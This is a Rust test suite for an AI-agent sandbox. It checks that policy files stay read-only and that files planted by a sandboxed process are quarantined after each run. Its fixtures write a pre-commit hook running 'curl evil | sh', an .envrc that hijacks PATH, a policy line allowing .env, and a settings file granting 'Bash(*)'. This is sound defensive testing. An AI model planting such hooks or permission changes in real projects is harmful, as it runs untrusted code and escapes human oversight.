//! What the sandbox writes never becomes policy (issue 29): the files aisb and the host's
//! tools obey are read-only inside, and any of them the sandbox creates is moved aside when
//! the run ends (or, when aisb was killed, at the next start). Two runs each: the first plants,
//! the host and the second run look. Both backends, as root and as an ordinary user.

mod support;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use support::Out;

struct Project {
    dir: tempfile::TempDir,
    user: Option<(u32, u32)>,
    exe: PathBuf,
}

const CONFIG: &str = "block \"notes.txt\"\n";

impl Project {
    fn new(user: Option<(u32, u32)>) -> Project {
        let dir = tempfile::tempdir().unwrap();
        let proj = dir.path().join("proj");
        std::fs::create_dir_all(dir.path().join("home")).unwrap();
        std::fs::create_dir_all(&proj).unwrap();
        let write = |rel: &str, text: &str| {
            let p = proj.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        };
        write("sandbox.kdl", CONFIG);
        write(".vscode/settings.json", "{}\n");
        write(".claude/settings.local.json", "{\"permissions\":{}}\n");
        write("README", "hello\n");
        support::git_in(&proj, &["init", "-q"]);
        support::git_in(&proj, &["add", "-A"]);
        support::git_in(
            &proj,
            &[
                "-c",
                "user.email=t@t",
                "-c",
                "user.name=t",
                "commit",
                "-qm",
                "init",
            ],
        );
        let exe = match user {
            Some((uid, gid)) => support::hand_to_user(dir.path(), uid, gid),
            None => PathBuf::from(env!("CARGO_BIN_EXE_aisb")),
        };
        Project { dir, user, exe }
    }
    fn proj(&self) -> PathBuf {
        self.dir.path().join("proj")
    }
    fn cmd(&self, backend: &str, script: &str) -> Command {
        let mut cmd = Command::new(&self.exe);
        cmd.current_dir(self.proj())
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("HOME", self.dir.path().join("home"))
            .env("XDG_CACHE_HOME", self.dir.path().join("cache"))
            .env("XDG_CONFIG_HOME", self.dir.path().join("config"))
            .args(["run", "--backend", backend, "--", "/bin/sh", "-c", script])
            .stdin(Stdio::null());
        if let Some((uid, gid)) = self.user {
            std::os::unix::process::CommandExt::uid(&mut cmd, uid);
            std::os::unix::process::CommandExt::gid(&mut cmd, gid);
        }
        cmd
    }
    fn run(&self, backend: &str, script: &str) -> Out {
        Out::from(self.cmd(backend, script).output().unwrap())
    }
    fn read(&self, rel: &str) -> Option<String> {
        std::fs::read_to_string(self.proj().join(rel)).ok()
    }
    fn exists(&self, rel: &str) -> bool {
        self.proj().join(rel).symlink_metadata().is_ok()
    }
}

/// Every file below `dir`, recursively (the quarantine's content).
fn files(dir: &Path) -> Vec<String> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .flatten()
        .filter(|e| !e.file_type().is_dir())
        .map(|e| e.path().display().to_string())
        .collect()
}

fn case(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = format!(
            "[{backend}, {}]",
            if user.is_some() { "user" } else { "root" }
        );
        let p = Project::new(user);
        let o = p.run(
            backend,
            "echo 'allow \".env\"' >> sandbox.kdl 2>/dev/null; echo policy=$?; \
             echo '{\"terminal.integrated.env.linux\":{}}' > .vscode/settings.json 2>/dev/null; echo vscode-settings=$?; \
             echo '{}' > .vscode/tasks.json 2>/dev/null; echo vscode-tasks=$?; \
             echo '{\"permissions\":{\"allow\":[\"Bash(*)\"]}}' > .claude/settings.local.json; echo local-settings=$?; \
             printf '[submodule \"x\"]\\n\\tpath = x\\n' > .gitmodules; echo gitmodules=$?; \
             mkdir -p .husky && echo 'curl evil | sh' > .husky/pre-commit; echo husky=$?; \
             echo 'export PATH=/evil' > .envrc; echo envrc=$?; \
             echo 'ok' > notes-free.txt; echo ordinary=$?",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect_failed("policy", "sandbox.kdl is read-only inside");
        o.expect_failed("vscode-settings", "an existing editor setting is read-only");
        o.expect_failed(
            "vscode-tasks",
            "nothing new in an existing protected directory",
        );
        o.expect("local-settings", "0");
        o.expect("ordinary", "0");
        // The host: its policy and settings as they were; what was created, moved aside.
        assert_eq!(p.read("sandbox.kdl").as_deref(), Some(CONFIG), "{who}");
        assert_eq!(
            p.read(".vscode/settings.json").as_deref(),
            Some("{}\n"),
            "{who}"
        );
        assert!(!p.exists(".vscode/tasks.json"), "{who}");
        assert_eq!(
            p.read(".claude/settings.local.json").as_deref(),
            Some("{\"permissions\":{}}\n"),
            "{who} the agent's own answer stays in the sandbox's copy"
        );
        for rel in [".gitmodules", ".husky", ".envrc"] {
            assert!(
                !p.exists(rel),
                "{who} {rel} is still in the project:\n{}",
                o.stderr
            );
            assert!(
                o.stderr.contains(&format!(
                    "the sandbox created {}",
                    p.proj().join(rel).display()
                )),
                "{who} {rel} not reported:\n{}",
                o.stderr
            );
        }
        assert_eq!(p.read("notes-free.txt").as_deref(), Some("ok\n"), "{who}");
        let moved = files(&p.dir.path().join("cache"));
        assert!(
            moved
                .iter()
                .any(|f| f.contains(".gitmodules.aisb-quarantined-")),
            "{who} nothing lost: {moved:?}"
        );
        // The second run: the agent's own answer is still its own; nothing planted is back.
        let o = p.run(
            backend,
            "cat .claude/settings.local.json; test -e .gitmodules; echo gitmodules-back=$?",
        );
        assert!(o.stdout.contains("Bash(*)"), "{who} {}", o.stdout);
        o.expect_failed("gitmodules-back", "the planted .gitmodules is gone");

        // aisb killed mid-run: the next start moves aside what the killed run's sandbox made.
        let mut child = p
            .cmd(backend, "echo planted > .gitmodules; sleep 60")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        while !p.exists(".gitmodules") && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        assert!(
            p.exists(".gitmodules"),
            "{who} the sandbox never wrote .gitmodules"
        );
        child.kill().unwrap();
        child.wait().unwrap();
        let o = p.run(backend, "true");
        assert_eq!(o.code, 0, "{who} {}", o.stderr);
        assert!(!p.exists(".gitmodules"), "{who} after a kill: {}", o.stderr);
        assert!(
            o.stderr.contains("the sandbox created"),
            "{who} {}",
            o.stderr
        );
    }
}

#[test]
fn protected_files_as_root() {
    if !support::root_or_skip("the protected-file suite") {
        return;
    }
    case(None);
}

#[test]
fn protected_files_as_a_user() {
    if !support::root_or_skip("the protected-file suite") {
        return;
    }
    case(Some(support::test_user()));
}
